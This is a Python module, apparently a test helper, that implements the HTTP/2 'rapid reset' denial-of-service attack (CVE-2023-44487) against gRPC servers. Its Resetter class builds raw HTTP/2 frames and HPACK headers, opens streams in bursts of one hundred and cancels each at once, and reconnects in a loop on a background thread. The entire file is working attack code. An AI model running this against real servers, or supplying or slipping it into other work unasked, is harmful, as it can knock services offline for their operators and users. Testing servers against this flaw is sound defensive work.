"""A client that no library would be: it resets what it begins."""

from __future__ import annotations

import socket
import struct
import threading
from types import TracebackType
from typing import Final, Self

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _DATA = 1, 3, 4, 0
_END_STREAM, _END_HEADERS, _CANCEL = 1, 4, 8
_MAX_STREAM_ID: Final = 2**31 - 1


class Resetter:
    """Begins calls and resets each at once, as fast as the server takes it, on a thread. A context manager.

    What "rapid reset" (CVE-2023-44487) does to servers that count only the streams that are open.

    Args:
        address: `host:port` of the server.
        path: of the RPC.
        body: the request.

    Attributes:
        count: how many calls were begun and reset.
    """

    def __init__(self, address: str, path: str, body: bytes) -> None:
        self.count = 0
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        # Literal fields without indexing, of the static table's names where it has them (RFC 7541, 6.2.2).
        self._headers = b"\x83\x86" + b"".join(
            (
                _literal(b"\x04", path.encode()),
                _literal(b"\x01", b"gateway"),
                _literal(b"\x0f\x10", b"application/grpc"),
                _literal(b"\x00" + _text(b"te"), b"trailers"),
            )
        )
        self._message = b"\x00" + struct.pack(">I", len(body)) + body
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._run, name="resetter", daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._stopping.set()
        self._thread.join(10)

    def _run(self) -> None:
        while not self._stopping.is_set():
            try:
                self._reset_calls()
            except OSError:
                continue

    def _reset_calls(self) -> None:
        with socket.create_connection(self._address, timeout=5) as connection:
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
            drain = threading.Thread(target=_read_all, args=(connection,), daemon=True)
            drain.start()
            stream = 1
            while not self._stopping.is_set() and stream < _MAX_STREAM_ID - 200:
                burst = b""
                for _ in range(100):
                    burst += _frame(_HEADERS, _END_HEADERS, stream, self._headers)
                    burst += _frame(_DATA, _END_STREAM, stream, self._message)
                    burst += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
                    stream += 2
                connection.sendall(burst)
                self.count += 100


def _read_all(connection: socket.socket) -> None:
    try:
        while connection.recv(2**16):
            pass
    except OSError:
        return


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


def _literal(name: bytes, value: bytes) -> bytes:
    return name + _text(value)
